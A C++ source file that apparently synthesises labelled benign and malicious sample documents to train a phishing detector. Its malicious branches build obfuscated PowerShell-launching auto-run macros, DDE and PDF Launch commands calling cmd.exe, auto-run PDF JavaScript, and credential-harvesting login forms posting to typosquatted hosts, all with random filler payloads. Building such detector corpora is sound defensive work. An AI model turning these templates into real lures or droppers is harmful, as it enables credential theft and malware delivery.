#include "phishlens/synth/corpus.hpp"

#include <array>
#include <cmath>
#include <cstdio>
#include <iterator>

#include "phishlens/error.hpp"
#include "phishlens/ml/rng.hpp"
#include "phishlens/synth/ooxml.hpp"
#include "phishlens/synth/pdf_writer.hpp"
#include "phishlens/synth/vba_project.hpp"

namespace phishlens::synth {
namespace {

using ml::Rng;

// Neutral vocabulary. None of these contain an HTML keyword as a substring.
constexpr std::array kWords = {
    "garden",   "river",    "harvest",  "weather", "morning",  "village", "market",   "season",  "library",
    "journey",  "kitchen",  "recipe",   "bicycle", "mountain", "coffee",  "festival", "museum",  "orchard",
    "painting", "history",  "meadow",   "concert", "travel",   "island",  "sunlight", "pottery", "lantern",
    "harbor",   "compost",  "tomato",   "picnic",  "notebook", "quiet",   "gentle",   "golden",  "simple",
    "local",    "weekly",   "spring",   "autumn",  "winter",   "summer",  "planting", "reading", "walking",
    "students", "teachers", "families", "friends", "visitors", "members", "children", "growers", "cooks",
    "explore",  "discover", "share",    "enjoy",   "prepare",  "gather",  "celebrate", "arrange", "collect",
    "with",     "from",     "about",    "during",  "near",     "under",   "between",  "across",  "after",
    "the",      "a",        "our",      "their",   "every",    "many",    "some",     "small",   "large"};

constexpr std::array kTopics = {"Garden Notes", "River Walks",  "Harvest Report", "Museum Guide", "Recipe Collection",
                                "Travel Diary", "Concert Plan", "Library Hours",  "Pottery Class", "Festival Program"};

constexpr std::array kSheetTopics = {"Inventory", "Sales", "Budget", "Grades", "Attendance", "Expenses", "Rainfall", "Mileage"};

constexpr std::array kColumnNames = {"Item", "Region", "Quarter", "Units", "Price", "Total", "Notes", "Owner", "Week"};

constexpr std::array kBenignHosts = {"example.org",  "example.com", "riverside-museum.org", "gardenclub.net",
                                     "citylibrary.org", "harborfest.com", "potteryguild.org"};

constexpr std::array kLureDomains = {"micros0ft-office365", "paypa1-support", "docusign-files", "onedrive-share",
                                     "dhl-parcel-track", "wellsfargo-alerts", "apple-id-service"};

constexpr std::array kLureTlds = {".xyz", ".top", ".info", ".ru", ".tk", ".click"};

template <typename A>
const char* pick(Rng& rng, const A& arr) {
    return arr[rng.below(arr.size())];
}

std::size_t range(Rng& rng, std::size_t lo, std::size_t hi) { return lo + rng.below(hi - lo + 1); }

bool chance(Rng& rng, double p) { return rng.uniform() < p; }

std::string sentence(Rng& rng, std::size_t min_words = 6, std::size_t max_words = 16) {
    std::string s;
    const std::size_t n = range(rng, min_words, max_words);
    for (std::size_t i = 0; i < n; ++i) {
        std::string w = pick(rng, kWords);
        if (i == 0) w[0] = static_cast<char>(std::toupper(static_cast<unsigned char>(w[0])));
        if (i) s += ' ';
        s += w;
    }
    return s + '.';
}

std::string paragraph(Rng& rng, std::size_t min_sent, std::size_t max_sent) {
    std::string p;
    const std::size_t n = range(rng, min_sent, max_sent);
    for (std::size_t i = 0; i < n; ++i) p += (i ? " " : "") + sentence(rng);
    return p;
}

std::string digits(Rng& rng, std::size_t n) {
    std::string s;
    for (std::size_t i = 0; i < n; ++i) s += static_cast<char>('0' + rng.below(10));
    return s;
}

std::string alnum(Rng& rng, std::size_t n) {
    static constexpr char kAlpha[] = "abcdefghijklmnopqrstuvwxyz0123456789";
    std::string s;
    for (std::size_t i = 0; i < n; ++i) s += kAlpha[rng.below(36)];
    return s;
}

std::string base64_blob(Rng& rng, std::size_t n) {
    static constexpr char kB64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    std::string s;
    for (std::size_t i = 0; i < n; ++i) s += kB64[rng.below(64)];
    return s + "==";
}

Bytes random_bytes(Rng& rng, std::size_t n) {
    Bytes b(n);
    for (auto& x : b) x = static_cast<std::uint8_t>(rng.next() >> 56);
    return b;
}

std::string lure_host(Rng& rng) {
    if (chance(rng, 0.35)) {
        return std::to_string(range(rng, 11, 223)) + "." + std::to_string(rng.below(256)) + "." +
               std::to_string(rng.below(256)) + "." + std::to_string(range(rng, 1, 254));
    }
    return std::string(pick(rng, kLureDomains)) + "-" + digits(rng, range(rng, 2, 4)) + pick(rng, kLureTlds);
}

std::string lure_url(Rng& rng) {
    std::string url = chance(rng, 0.6) ? "http://" : "https://";
    url += lure_host(rng);
    if (chance(rng, 0.3)) url += ":" + std::to_string(range(rng, 8000, 8999));
    url += "/" + alnum(rng, range(rng, 4, 10)) + "/" + alnum(rng, range(rng, 6, 14)) + ".php";
    if (chance(rng, 0.7)) url += "?id=" + digits(rng, range(rng, 5, 12)) + "&s=" + alnum(rng, range(rng, 4, 12));
    return url;
}

std::string benign_url(Rng& rng) {
    std::string url = "https://";
    if (chance(rng, 0.5)) url += "www.";
    url += pick(rng, kBenignHosts);
    url += "/" + std::string(pick(rng, kWords)) + "/" + pick(rng, kWords);
    if (chance(rng, 0.2)) url += "?page=" + std::to_string(range(rng, 1, 9));
    return url;
}

// "powershell" -> Chr(112) & Chr(111) & ... with arithmetic noise.
std::string chr_obfuscate(Rng& rng, std::string_view text) {
    std::string out;
    for (std::size_t i = 0; i < text.size(); ++i) {
        const int c = static_cast<unsigned char>(text[i]);
        const int k = static_cast<int>(range(rng, 1, 60));
        if (i) out += " & ";
        switch (rng.below(3)) {
            case 0: out += "Chr(" + std::to_string(c + k) + " - " + std::to_string(k) + ")"; break;
            case 1: out += "Chr(" + std::to_string(c - k) + " + " + std::to_string(k) + ")"; break;
            default: out += "Chr(" + std::to_string(c * 2) + " / 2)"; break;
        }
    }
    return out;
}

std::string malicious_macro(Rng& rng, const char* entry) {
    const std::string var = "v" + alnum(rng, 5);
    const std::string obj = "o" + alnum(rng, 5);
    std::string src = "Attribute VB_Name = \"Module1\"\n";
    src += "Sub " + std::string(entry) + "()\n";
    src += "    Dim " + var + " As String\n";
    src += "    Dim " + obj + " As Object\n";
    src += "    " + var + " = " + chr_obfuscate(rng, "powershell") + "\n";
    src += "    " + var + " = " + var + " & \" -w hidden -enc " + base64_blob(rng, range(rng, 40, 120)) + "\"\n";
    if (chance(rng, 0.5)) {
        src += "    Set " + obj + " = CreateObject(\"WScript.Shell\")\n";
        src += "    " + obj + ".Run " + var + ", 0\n";
    } else {
        src += "    Shell " + var + ", vbHide\n";
    }
    const std::size_t extra = range(rng, 0, 4);
    for (std::size_t i = 0; i < extra; ++i) {
        src += "    x" + std::to_string(i) + " = (" + digits(rng, 3) + " * " + digits(rng, 2) + ") Mod " +
               std::to_string(range(rng, 3, 97)) + "\n";
    }
    if (chance(rng, 0.5)) src += "    Set h = CreateObject(\"MSXML2.XMLHTTP\")\n";
    src += "End Sub\n";
    return src;
}

std::string benign_macro(Rng& rng) {
    std::string src = "Attribute VB_Name = \"Formatting\"\n";
    src += "' Applies house style to the report\n";
    src += "Sub FormatReport()\n";
    src += "    Dim r As Long\n";
    const std::size_t n = range(rng, 2, 6);
    for (std::size_t i = 0; i < n; ++i) {
        src += "    Range(\"A" + std::to_string(i + 1) + "\").Font.Bold = True\n";
    }
    src += "    For r = 2 To " + std::to_string(range(rng, 10, 200)) + "\n";
    src += "        Cells(r, 4).NumberFormat = \"0.00\"\n";
    src += "    Next r\n";
    src += "End Sub\n";
    return src;
}

// The primary indicator of a format goes into every malicious file; the others
// into a seeded ~60% each, with at least one indicator per file.
std::set<Indicator> draw_indicators(Rng& rng, const std::set<Indicator>& enabled, Indicator primary) {
    std::set<Indicator> out;
    for (auto i : enabled)
        if (i == primary || chance(rng, 0.6)) out.insert(i);
    if (out.empty() && !enabled.empty()) {
        auto it = enabled.begin();
        std::advance(it, static_cast<long>(rng.below(enabled.size())));
        out.insert(*it);
    }
    return out;
}

// --- DOCX -----------------------------------------------------------------

Bytes make_docx(Rng& rng, int label, const std::set<Indicator>& enabled) {
    DocxSpec spec;
    const auto on = label ? draw_indicators(rng, enabled, Indicator::macros) : std::set<Indicator>{};
    if (label == 0) {
        spec.title = pick(rng, kTopics);
        const std::size_t paras = range(rng, 4, 30);
        for (std::size_t i = 0; i < paras; ++i) spec.paragraphs.push_back(paragraph(rng, 1, 6));
        if (chance(rng, 0.4)) {
            const std::size_t rows = range(rng, 2, 8);
            for (std::size_t r = 0; r < rows; ++r) {
                std::vector<std::string> row;
                for (int c = 0; c < 3; ++c) row.push_back(r == 0 ? pick(rng, kColumnNames) : std::string(pick(rng, kWords)));
                spec.table.push_back(row);
            }
        }
        if (chance(rng, 0.3)) spec.tab_stops = {720, 1440 * static_cast<int>(range(rng, 1, 4))};
        if (chance(rng, 0.3)) spec.field_instructions.push_back(chance(rng, 0.5) ? " PAGE " : " TOC \\o \"1-3\" ");
        if (chance(rng, 0.3)) spec.hyperlinks.push_back(benign_url(rng));
        if (chance(rng, 0.1)) spec.ole_objects.push_back({"Excel.Sheet.12", "xlsx", random_bytes(rng, range(rng, 200, 2000))});
    } else {
        spec.title = chance(rng, 0.5) ? "Invoice" : "";
        spec.paragraphs.push_back("This document was created in an earlier version of Office.");
        spec.paragraphs.push_back("To view the content, click Enable Editing and then Enable Content.");
        const std::size_t extra = range(rng, 0, 3);
        for (std::size_t i = 0; i < extra; ++i) spec.paragraphs.push_back(sentence(rng));
        if (on.count(Indicator::macros)) {
            const char* entry = chance(rng, 0.5) ? "AutoOpen" : "Document_Open";
            spec.vba_project = build_vba_project({{"Module1", malicious_macro(rng, entry)}});
        }
        if (on.count(Indicator::dde)) {
            spec.field_instructions.push_back(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k powershell -c " +
                                              alnum(rng, 12) + "\" ");
            spec.split_instructions = chance(rng, 0.5);
        }
        if (on.count(Indicator::ole)) {
            constexpr std::array kProgIds = {"Package", "Equation.3", "Word.Document.8", "Excel.Sheet.8"};
            const std::size_t n = range(rng, 1, 3);
            for (std::size_t i = 0; i < n; ++i) {
                spec.ole_objects.push_back({pick(rng, kProgIds), "bin", random_bytes(rng, range(rng, 500, 6000))});
            }
        }
        if (chance(rng, 0.4)) spec.hyperlinks.push_back(lure_url(rng));
    }
    return build_docx(spec);
}

// --- XLSX -----------------------------------------------------------------

XlsxSheet data_sheet(Rng& rng, std::string name) {
    XlsxSheet sheet;
    sheet.name = std::move(name);
    const std::size_t cols = range(rng, 3, 7);
    const std::size_t rows = range(rng, 5, 60);
    std::vector<XlsxCell> header;
    for (std::size_t c = 0; c < cols; ++c) header.push_back(XlsxCell::str(pick(rng, kColumnNames)));
    sheet.rows.push_back(header);
    for (std::size_t r = 0; r < rows; ++r) {
        std::vector<XlsxCell> row;
        row.push_back(XlsxCell::str(pick(rng, kWords)));
        for (std::size_t c = 1; c < cols; ++c) {
            if (chance(rng, 0.05)) row.push_back(XlsxCell::blank());
            else row.push_back(XlsxCell::num(std::round(rng.uniform() * 10000.0) / 100.0));
        }
        sheet.rows.push_back(row);
    }
    if (chance(rng, 0.5)) {
        std::vector<XlsxCell> total{XlsxCell::str("Total")};
        total.push_back(XlsxCell::formula("SUM(B2:B" + std::to_string(rows + 1) + ")", rng.uniform() * 1000));
        sheet.rows.push_back(total);
    }
    return sheet;
}

Bytes make_xlsx(Rng& rng, int label, const std::set<Indicator>& enabled) {
    XlsxSpec spec;
    const auto on = label ? draw_indicators(rng, enabled, Indicator::macros) : std::set<Indicator>{};
    if (label == 0) {
        const std::size_t sheets = range(rng, 1, 3);
        for (std::size_t s = 0; s < sheets; ++s) {
            spec.sheets.push_back(data_sheet(rng, std::string(pick(rng, kSheetTopics)) + std::to_string(s + 1)));
        }
        if (chance(rng, 0.1)) spec.sheets.back().state = "hidden";
        if (chance(rng, 0.1)) spec.vba_project = build_vba_project({{"Formatting", benign_macro(rng)}});
        if (chance(rng, 0.15)) {
            Bytes png = to_bytes("\x89PNG\r\n\x1a\n");
            auto body = random_bytes(rng, range(rng, 300, 3000));
            png.insert(png.end(), body.begin(), body.end());
            spec.images.push_back({"png", png});
        }
        if (chance(rng, 0.2)) spec.defined_names.push_back({"Totals", "'" + spec.sheets[0].name + "'!$B$2:$B$9"});
        if (chance(rng, 0.1)) spec.sheets[0].hyperlinks.push_back(benign_url(rng));
    } else {
        XlsxSheet lure;
        lure.name = "Sheet1";
        lure.rows.push_back({XlsxCell::str("This document is protected.")});
        lure.rows.push_back({XlsxCell::str("Please click Enable Content to view the invoice.")});
        if (chance(rng, 0.5)) lure.rows.push_back({XlsxCell::inline_str("Invoice #" + digits(rng, 6))});
        if (chance(rng, 0.5)) lure.rows.push_back({XlsxCell::num(static_cast<double>(range(rng, 100, 9999)))});
        spec.sheets.push_back(lure);
        if (chance(rng, 0.4)) {
            XlsxSheet hidden;
            hidden.name = "x" + alnum(rng, 4);
            hidden.state = chance(rng, 0.5) ? "veryHidden" : "hidden";
            hidden.rows.push_back({XlsxCell::str(base64_blob(rng, range(rng, 30, 90)))});
            spec.sheets.push_back(hidden);
        }
        if (on.count(Indicator::macros)) {
            spec.vba_project = build_vba_project({{"Module1", malicious_macro(rng, "Workbook_Open")}});
            if (chance(rng, 0.3)) spec.defined_names.push_back({"Auto_Open", "Sheet1!$A$1"});
        }
        if (on.count(Indicator::remote_templates)) spec.remote_template_url = lure_url(rng) + "/template.dotm";
    }
    return build_xlsx(spec);
}

// --- PDF ------------------------------------------------------------------

std::string pdf_escape(std::string_view s) {
    std::string out;
    for (char c : s) {
        if (c == '(' || c == ')' || c == '\\') out += '\\';
        out += c;
    }
    return out;
}

std::string text_content(Rng& rng, std::size_t lines) {
    std::string s = "BT\n/F1 11 Tf\n72 740 Td\n14 TL\n";
    for (std::size_t i = 0; i < lines; ++i) s += "(" + pdf_escape(sentence(rng, 5, 12)) + ") Tj T*\n";
    return s + "ET\n";
}

Bytes make_pdf(Rng& rng, int label, const std::set<Indicator>& enabled) {
    const auto on = label ? draw_indicators(rng, enabled, Indicator::js_actions) : std::set<Indicator>{};
    PdfWriter w(chance(rng, 0.5) ? "1.7" : "1.4");
    const int catalog = w.reserve();
    const int pages = w.reserve();
    const int font = w.add_object("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>");
    std::vector<int> kids;
    std::string catalog_extra;
    std::string trailer;

    if (label == 0) {
        const std::size_t n_pages = range(rng, 1, 6);
        int image = 0;
        if (chance(rng, 0.25)) {
            const std::size_t side = range(rng, 16, 64);
            Bytes pixels(side * side);
            for (std::size_t i = 0; i < pixels.size(); ++i)
                pixels[i] = static_cast<std::uint8_t>((i % side) * 4 + (rng.next() >> 61));
            image = w.add_stream("/Type /XObject /Subtype /Image /Width " + std::to_string(side) + " /Height " +
                                     std::to_string(side) + " /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode",
                                 flate_compress(pixels));
        }
        for (std::size_t p = 0; p < n_pages; ++p) {
            std::string content = text_content(rng, range(rng, 15, 45));
            if (image && p == 0) content += "q 100 0 0 100 72 72 cm /Im1 Do Q\n";
            const int stream = w.add_stream("/Filter /FlateDecode", flate_compress(as_bytes(content)));
            std::string resources = "/Font << /F1 " + std::to_string(font) + " 0 R >>";
            if (image && p == 0) resources += " /XObject << /Im1 " + std::to_string(image) + " 0 R >>";
            kids.push_back(w.add_object("<< /Type /Page /Parent " + std::to_string(pages) +
                                        " 0 R /MediaBox [0 0 612 792] /Resources << " + resources + " >> /Contents " +
                                        std::to_string(stream) + " 0 R >>"));
        }
        std::string title = pick(rng, kTopics);
        if (chance(rng, 0.5)) title += std::string(" ") + pick(rng, kWords);
        const int info = w.add_object("<< /Title (" + title + ") /Author (" + pick(rng, kWords) +
                                      " desk) /Producer (LibreOffice 7." + std::to_string(range(rng, 0, 6)) +
                                      ") /CreationDate (D:2023" + digits(rng, 4) + "120000Z) >>");
        trailer = "/Info " + std::to_string(info) + " 0 R";
        if (chance(rng, 0.3)) {
            const std::string xmp = "<?xpacket begin=\"\"?><x:xmpmeta xmlns:x=\"adobe:ns:meta/\"><rdf:RDF "
                                    "xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\"><rdf:Description "
                                    "xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:title>" +
                                    title + "</dc:title></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end=\"w\"?>";
            const int meta = w.add_stream("/Type /Metadata /Subtype /XML", xmp);
            catalog_extra += " /Metadata " + std::to_string(meta) + " 0 R";
        }
    } else {
        std::string content;
        if (chance(rng, 0.6)) {
            content = "BT /F1 14 Tf 72 700 Td (" +
                      std::string(chance(rng, 0.5) ? "Loading document, please wait..." : "Secure document viewer") +
                      ") Tj ET\n";
        }
        const int stream = w.add_stream("", content);
        std::string annots;
        if (chance(rng, 0.4)) {
            const int uri = w.add_object("<< /Type /Annot /Subtype /Link /Rect [72 600 300 640] /A << /S /URI /URI (" +
                                         lure_url(rng) + ") >> >>");
            annots = " /Annots [" + std::to_string(uri) + " 0 R]";
        }
        std::string aa;
        if (on.count(Indicator::js_actions) && chance(rng, 0.3)) {
            const int launch = w.add_object("<< /S /Launch /Win << /F (cmd.exe) /P (/c start " + lure_url(rng) + ") >> >>");
            aa = " /AA << /O " + std::to_string(launch) + " 0 R >>";
        }
        kids.push_back(w.add_object("<< /Type /Page /Parent " + std::to_string(pages) +
                                    " 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 " + std::to_string(font) +
                                    " 0 R >> >> /Contents " + std::to_string(stream) + " 0 R" + annots + aa + " >>"));
        if (on.count(Indicator::js_actions)) {
            const std::string var = "_" + alnum(rng, 6);
            std::string js = "var " + var + " = \"" + base64_blob(rng, range(rng, 60, 400)) + "\";\n";
            js += "app.alert(\"Please wait\");\n";
            js += "this.exportDataObject({cName: \"" + alnum(rng, 8) + ".exe\", nLaunch: 2});\n";
            js += "app.launchURL(\"" + lure_url(rng) + "\", true);\n";
            const int js_stream = chance(rng, 0.5) ? w.add_stream("/Filter /FlateDecode", flate_compress(as_bytes(js)))
                                                   : w.add_stream("", js);
            const int action = w.add_object("<< /Type /Action /S /JavaScript /JS " + std::to_string(js_stream) + " 0 R >>");
            catalog_extra += " /OpenAction " + std::to_string(action) + " 0 R";
        }
        if (chance(rng, 0.2)) {
            const int info = w.add_object("<< /Producer (" + alnum(rng, 6) + ") >>");
            trailer = "/Info " + std::to_string(info) + " 0 R";
        }
    }

    std::string kid_refs;
    for (int k : kids) kid_refs += (kid_refs.empty() ? "" : " ") + std::to_string(k) + " 0 R";
    w.set_object(pages, "<< /Type /Pages /Kids [" + kid_refs + "] /Count " + std::to_string(kids.size()) + " >>");
    w.set_object(catalog, "<< /Type /Catalog /Pages " + std::to_string(pages) + " 0 R" + catalog_extra + " >>");
    return w.finish(catalog, trailer);
}

// --- HTML -----------------------------------------------------------------

std::string make_html(Rng& rng, int label, const std::set<Indicator>& enabled) {
    const auto on = label ? draw_indicators(rng, enabled, Indicator::js_actions) : std::set<Indicator>{};
    std::string h = "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n";
    if (label == 0) {
        const std::string topic = pick(rng, kTopics);
        h += "<title>" + topic + "</title>\n";
        h += "<link rel=\"stylesheet\" href=\"/static/site.css\">\n";
        if (chance(rng, 0.4)) h += "<script>document.documentElement.className = 'js';</script>\n";
        h += "</head>\n<body>\n<header>\n  <nav>\n    <ul>\n";
        const std::size_t nav = range(rng, 3, 8);
        for (std::size_t i = 0; i < nav; ++i) {
            const std::string w = pick(rng, kWords);
            h += "      <li><a href=\"/" + w + "/\">" + w + "</a></li>\n";
        }
        h += "    </ul>\n  </nav>\n</header>\n<main>\n  <article>\n    <h1>" + topic + "</h1>\n";
        const std::size_t paras = range(rng, 3, 12);
        for (std::size_t i = 0; i < paras; ++i) {
            h += "    <p>" + paragraph(rng, 2, 6);
            if (chance(rng, 0.3)) {
                const std::string w = pick(rng, kWords);
                h += " See <a href=\"/" + std::string(pick(rng, kWords)) + "/" + w + ".html\">" + w + "</a>.";
            }
            h += "</p>\n";
        }
        if (chance(rng, 0.3)) h += "    <img src=\"/images/" + std::string(pick(rng, kWords)) + ".jpg\" alt=\"photo\">\n";
        h += "  </article>\n";
        if (chance(rng, 0.25)) {
            h += "  <form action=\"/search\" method=\"get\">\n    <input type=\"text\" name=\"q\">\n"
                 "    <button type=\"submit\">Search</button>\n  </form>\n";
        }
        h += "</main>\n<footer>\n  <p>Visit <a href=\"" + benign_url(rng) + "\">our partners</a>.</p>\n</footer>\n";
        if (chance(rng, 0.3)) h += "<script src=\"/static/menu.js\"></script>\n";
        h += "</body>\n</html>\n";
        return h;
    }

    h += "<title>Sign in - Account Verification</title>\n";
    h += "<style>body{font-family:Arial}.box{width:360px;margin:auto}</style>\n</head>\n<body>\n";
    h += "<div class=\"box\">\n<h2>Verify your account</h2>\n";
    h += "<p>Your bank account has been suspended. Please login and confirm your password to update your secure "
         "profile.</p>\n";
    const std::string action = lure_url(rng);
    h += "<form method=\"post\" action=\"" + action + "\">\n";
    h += "<input type=\"email\" name=\"user\" placeholder=\"Email\">\n";
    h += "<input type=\"password\" name=\"pass\" placeholder=\"Password\">\n";
    h += "<button type=\"submit\">Login</button>\n</form>\n";
    if (chance(rng, 0.5)) h += "<a href=\"" + lure_url(rng) + "\">Forgot password?</a>\n";
    h += "</div>\n";
    if (on.count(Indicator::hidden_iframes)) {
        h += "<iframe src=\"" + lure_url(rng) + "\" width=\"" + std::to_string(range(rng, 0, 1)) + "\" height=\"" +
             std::to_string(range(rng, 0, 1)) + "\" style=\"display:none\"></iframe>\n";
    }
    if (on.count(Indicator::js_actions)) {
        const std::string var = "_0x" + alnum(rng, 4);
        h += "<script>\nvar " + var + " = \"" + base64_blob(rng, range(rng, 200, 1200)) + "\";\n";
        h += "eval(atob(" + var + "));\n";
        if (chance(rng, 0.5)) h += "var k = \"\\x68\\x74\\x74\\x70\\u0073\";\n";
        h += "setTimeout(function(){ window.location = \"" + lure_url(rng) + "\"; }, " +
             std::to_string(range(rng, 1000, 9000)) + ");\n</script>\n";
    }
    h += "</body>\n</html>\n";
    return h;
}

}  // namespace

std::string_view indicator_name(Indicator i) noexcept {
    switch (i) {
        case Indicator::macros: return "macros";
        case Indicator::dde: return "dde";
        case Indicator::ole: return "ole";
        case Indicator::js_actions: return "js_actions";
        case Indicator::hidden_iframes: return "hidden_iframes";
        case Indicator::remote_templates: return "remote_templates";
    }
    return "unknown";
}

std::optional<Indicator> parse_indicator(std::string_view name) noexcept {
    for (auto i : {Indicator::macros, Indicator::dde, Indicator::ole, Indicator::js_actions, Indicator::hidden_iframes,
                   Indicator::remote_templates}) {
        if (indicator_name(i) == name) return i;
    }
    return std::nullopt;
}

std::set<Indicator> applicable_indicators(FormatKind format) {
    switch (format) {
        case FormatKind::docx: return {Indicator::macros, Indicator::dde, Indicator::ole};
        case FormatKind::xlsx: return {Indicator::macros, Indicator::remote_templates};
        case FormatKind::pdf: return {Indicator::js_actions};
        case FormatKind::html: return {Indicator::hidden_iframes, Indicator::js_actions};
        case FormatKind::url: return {};
    }
    return {};
}

std::string_view file_extension(FormatKind format) {
    switch (format) {
        case FormatKind::docx: return "docx";
        case FormatKind::xlsx: return "xlsx";
        case FormatKind::pdf: return "pdf";
        case FormatKind::html: return "html";
        case FormatKind::url: return "txt";
    }
    return "bin";
}

SynthFile generate_file(const SynthConfig& config, int label, std::size_t index) {
    const auto allowed = applicable_indicators(config.format);
    if (config.format == FormatKind::url) throw Error(Errc::invalid_argument, "synth does not generate url files");
    std::set<Indicator> on = config.indicators.value_or(allowed);
    for (auto i : on) {
        if (!allowed.count(i)) {
            throw Error(Errc::invalid_argument, "indicator '" + std::string(indicator_name(i)) + "' does not apply to " +
                                                    std::string(format_name(config.format)));
        }
    }
    Rng rng(ml::derive_seed(config.seed, static_cast<std::uint64_t>(label) * 1000000007ull + index));
    SynthFile file;
    file.label = label;
    char name[48];
    std::snprintf(name, sizeof name, "%s_%05zu.%s", label ? "malicious" : "benign", index,
                  std::string(file_extension(config.format)).c_str());
    file.name = name;
    switch (config.format) {
        case FormatKind::docx: file.data = make_docx(rng, label, on); break;
        case FormatKind::xlsx: file.data = make_xlsx(rng, label, on); break;
        case FormatKind::pdf: file.data = make_pdf(rng, label, on); break;
        case FormatKind::html: file.data = to_bytes(make_html(rng, label, on)); break;
        case FormatKind::url: break;
    }
    return file;
}

std::vector<SynthFile> generate_corpus(const SynthConfig& config) {
    if (config.count_per_class < 1) throw Error(Errc::invalid_argument, "count per class must be >= 1");
    std::vector<SynthFile> out;
    out.reserve(config.count_per_class * 2);
    for (int label = 0; label < 2; ++label)
        for (std::size_t i = 0; i < config.count_per_class; ++i) out.push_back(generate_file(config, label, i));
    return out;
}

std::vector<std::string> generate_urls(std::size_t count, bool malicious, std::uint64_t seed) {
    Rng rng(ml::derive_seed(seed, malicious ? 0xBADull : 0x600Dull));
    std::vector<std::string> out;
    out.reserve(count);
    for (std::size_t i = 0; i < count; ++i) out.push_back(malicious ? lure_url(rng) : benign_url(rng));
    return out;
}

}  // namespace phishlens::synth
